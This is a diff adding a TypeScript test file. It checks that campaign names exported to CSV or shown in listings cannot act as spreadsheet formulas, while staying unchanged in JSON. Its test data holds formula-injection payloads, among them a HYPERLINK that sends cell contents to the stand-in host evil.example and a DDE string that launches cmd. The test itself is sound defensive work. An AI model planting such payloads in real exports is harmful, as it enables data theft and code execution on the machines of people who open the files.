@@ -1,0 +1,72 @@
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { spreadsheetText } from '../../src/domain/spreadsheet-text.ts';
+import { renderListing } from '../../src/report/listing.ts';
+import { exportTables } from '../../src/warehouse/export-tables.ts';
+import { tempDir } from '../support/temp-dir.ts';
+import { addTable, publish, stateFile } from '../warehouse/published.ts';
+
+const NAMES: readonly (readonly [sentence: string, name: string])[] = [
+  ['a link that carries cells away', '=HYPERLINK("http://evil.example/?"&A1,"more")'],
+  ['a command of DDE', "@SUM(1+1)*cmd|' /C calc'!A0"],
+  ['behind a blank', ' =1+1'],
+  ['behind a blank that does not break', '\u00a0=1+1'],
+  ['behind a quote', '"=1+1'],
+  ['on a line of its own', 'shoes\n=1+1'],
+  ['behind a tab, where cells end for some', 'shoes\t=1+1'],
+  ['behind a semicolon, where cells end in half of Europe', 'shoes;=1+1;'],
+  ['behind a semicolon and quotes', 'shoes;"=1+1";'],
+  ['in full width', 'shoes;＝1+1;'],
+  ['a minus that looks like a number', '-1+cmd'],
+];
+/** How programs part the cells of a line, by the country that they are set to. */
+const DELIMITERS = [',', ';', '\t'];
+
+/** As forgiving as spreadsheets are: a quote means something where a cell begins, and none need be closed. */
+function cellsOf(csv: string, delimiter: string): string[] {
+  const cells = [''];
+  let quoted = false;
+  for (const [at, sign] of [...csv].entries()) {
+    const begins = cells.at(-1) === '' && !quoted && csv[at - 1] !== '"';
+    if (sign === '"' && (begins || quoted)) quoted = !quoted;
+    else if (!quoted && (sign === delimiter || sign === '\r' || sign === '\n')) cells.push('');
+    else cells.push(`${cells.pop()}${sign}`);
+  }
+  return cells;
+}
+const formulas = (csv: string) =>
+  DELIMITERS.flatMap((delimiter) => cellsOf(csv, delimiter)).filter(
+    (cell) => /^[\s"]*[=+\-@＝＋－＠]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell),
+  );
+
+describe('a campaign whose name is a formula', () => {
+  it.each(NAMES)('is no formula in a listing, wherever the program that opens it parts cells: %s', (_, name) => {
+    expect(formulas(renderListing(['id', 'name', 'note'], [{ id: 5, name, note: 'x' }], 'csv'))).toEqual([]);
+  });
+
+  it('is none in the tables that are exported, and stays as it is in the database and in JSON', async () => {
+    const state = await stateFile();
+    const query = 'SELECT campaign.name, metrics.clicks FROM campaign';
+    const rows = NAMES.map(([, name]) => ({ campaign_name: name, clicks: 1 }));
+    addTable(state, 'words', query, rows);
+    const { tables } = await publish(state);
+    const folder = tempDir();
+    await exportTables(state.warehouse, tables, 'csv', folder);
+    await exportTables(state.warehouse, tables, 'json', folder);
+    expect(formulas(readFileSync(join(folder, 'words.csv'), 'utf8'))).toEqual([]);
+    const kept = JSON.parse(readFileSync(join(folder, 'words.json'), 'utf8')) as { campaign_name: string }[];
+    expect(kept.map((row) => row.campaign_name)).toEqual(NAMES.map(([, name]) => name));
+  });
+
+  it('was one: what is looked for is found where nothing is done about it', () => {
+    const raw = NAMES.map(([, name]) => `"1","${name.replaceAll('"', '""')}"\r\n`);
+    expect(raw.filter((csv) => formulas(csv).length === 0)).toEqual([]);
+  });
+});
+
+describe('a name that is none', () => {
+  it.each(['Shoes - Berlin', 'a=b', 'A; B', 'x@example.com', '5 > 3', '100%', ''])('is left as it is: %j', (name) => {
+    expect(spreadsheetText(name)).toBe(name);
+  });
+});
